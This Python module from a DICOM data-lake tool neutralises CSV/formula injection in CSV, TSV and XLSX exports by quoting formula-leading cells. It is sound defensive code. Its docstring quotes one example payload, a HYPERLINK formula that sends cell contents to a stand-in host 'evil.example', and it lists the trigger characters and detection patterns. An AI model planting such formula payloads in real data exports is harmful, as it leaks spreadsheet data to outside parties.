"""Spreadsheet cells from hostile values: CSV/formula injection (OWASP "CSV Injection").

A DICOM value such as ``=HYPERLINK("http://evil.example/?x="&A1,"open")`` becomes a live
formula when a spreadsheet opens a CSV, TSV or XLSX file that holds it raw. Following OWASP's
guidance, a text cell whose first character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (also after leading blanks, and the full-width ``＝ ＋ － ＠``) gets a leading single
quote ``'``, which spreadsheets show as text. Numbers stay numbers: an int or float is never
touched, nor is a text that is a plain decimal number (``-1.5``, ``+3e2``), which no
spreadsheet reads as a formula. CSV quoting (the field separator, quotes) is the CSV
writer's job.

Every writer of tables for people uses these functions: ``dicomlake query``'s
``--format csv/tsv/xlsx``, the web UI's ``.csv`` twins and exports, the audit reports' CSV and
XLSX files. XLSX files are also written with xlsxwriter's ``strings_to_formulas`` off.
"""

from __future__ import annotations

import re
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
"""Characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width forms)."""
_PATTERN = r"^[ \n]*[=+\-@\t\r\x{ff1d}\x{ff0b}\x{ff0d}\x{ff20}]"
_TRIGGER = re.compile(r"^[ \n]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
_NUMBER_PATTERN = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
_NUMBER = re.compile(_NUMBER_PATTERN)
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}
"""xlsxwriter ``Workbook`` options: a string is written as a string, never as a formula or link."""


def neutralise(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell: a text that would start a formula gets a leading ``'``."""
    if isinstance(value, str) and value and _TRIGGER.match(value) and not _NUMBER.match(value):
        return "'" + value
    return value


def neutralise_row(values: Any) -> list[Any]:
    """Every cell of a row through :func:`neutralise`."""
    return [neutralise(v) for v in values]


def neutralise_table(table: pa.Table | pa.RecordBatch) -> pa.Table:
    """An Arrow table with every text column neutralised (vectorised; other columns as they are)."""
    t = pa.Table.from_batches([table]) if isinstance(table, pa.RecordBatch) else table
    for i, field in enumerate(t.schema):
        if not (pa.types.is_string(field.type) or pa.types.is_large_string(field.type)):
            continue
        col = t.column(i)
        bad = pc.and_(
            pc.match_substring_regex(col, _PATTERN),
            pc.invert(pc.match_substring_regex(col, _NUMBER_PATTERN)),
        )
        if not pc.any(bad).as_py():
            continue
        fixed = pc.if_else(bad, pc.binary_join_element_wise(pa.scalar("'", field.type), col, ""), col)
        t = t.set_column(i, field, fixed)
    return t


def neutralise_frame(df: Any) -> Any:
    """A polars DataFrame with every text column neutralised."""
    import polars as pl

    texts = [c for c, t in df.schema.items() if t == pl.String]
    if not texts:
        return df
    return df.with_columns(
        pl.when(pl.col(c).str.contains(_TRIGGER.pattern) & ~pl.col(c).str.contains(_NUMBER_PATTERN))
        .then(pl.lit("'") + pl.col(c))
        .otherwise(pl.col(c))
        .alias(c)
        for c in texts
    )


__all__ = ["TRIGGERS", "XLSX_OPTIONS", "neutralise", "neutralise_frame", "neutralise_row", "neutralise_table"]
